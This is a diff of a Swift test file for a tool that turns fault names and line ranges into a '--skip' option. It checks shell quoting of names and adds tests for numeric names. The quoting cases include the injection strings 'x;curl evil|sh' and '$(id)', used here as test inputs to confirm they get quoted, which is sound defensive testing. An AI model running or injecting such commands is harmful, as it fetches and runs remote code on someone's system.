@@ -10,7 +10,7 @@ struct SkippedPartsTests {
 
   @Test(arguments: [
     ("x;curl evil|sh", "'x;curl evil|sh'"), ("$(id)", "'$(id)'"), ("it's", "'it'\\''s'"), ("a b", "'a b'"),
-    ("web/loop", "web/loop"), ("7 up", "'7 up'"),
+    ("web/loop", "web/loop"), ("7 up", "'7 up'"), ("7", "7"), ("5-9", "5-9"), ("2024-01", "2024-01"), ("0", "0"),
   ])
   func `a name is one word of a shell, and the list with it stands for the name`(_ name: String, _ word: String) throws
   {
@@ -22,8 +22,7 @@ struct SkippedPartsTests {
   }
 
   @Test(arguments: [
-    "all", "7", "5-9", "9-5", "0", "@x", "@", "-x", " x", "x ", "\tx", "", ",", "a,b", "a,\u{301}", "x\u{1B}",
-    "a\u{202E}b",
+    "all", "@x", "@", "-x", " x", "x ", "\tx", "", ",", "a,b", "a,\u{301}", "x\u{1B}", "a\u{202E}b",
   ])
   func `a name that a list reads as something else is left out with all`(_ name: String) {
     #expect(SkippedParts.option([Self.fault(0, nil, name), Self.fault(0, nil, "y")]) == "--skip all")
@@ -33,12 +32,20 @@ struct SkippedPartsTests {
     #expect(SkippedParts.option([Self.fault(2, 3), Self.fault(5)]) == "--skip 2-3,5")
   }
 
+  @Test func `numbers name an entry only if the source has no lines`() throws {
+    let faults = [Self.fault(0, nil, "7"), Self.fault(0, nil, "0")]
+    let (skipped, remaining) = try SkippedParts("7").divide(faults)
+    #expect(skipped.map(\.name) == ["7"] && remaining.map(\.name) == ["0"])
+    #expect(throws: ToolError.self) { try SkippedParts("7").divide([Self.fault(3, nil, "7")]) }
+    #expect(throws: ToolError.self) { try SkippedParts("9-5").divide([Self.fault(7, nil, "9")]) }
+  }
+
   @Test func `the parts that a list leaves out are those that a look at each range finds`() throws {
     var random = SeededRandom(12)
     for _ in 0..<2000 {
       let most = Int.random(in: 3...40, using: &random)
       func range() -> ClosedRange<Int> {
-        let first = Int.random(in: 0...most, using: &random)
+        let first = Int.random(in: 1...most, using: &random)
         return first...(Bool.random(using: &random) ? first : Int.random(in: first...most, using: &random))
       }
       let faults = (0..<Int.random(in: 0...8, using: &random)).map { _ in range() }
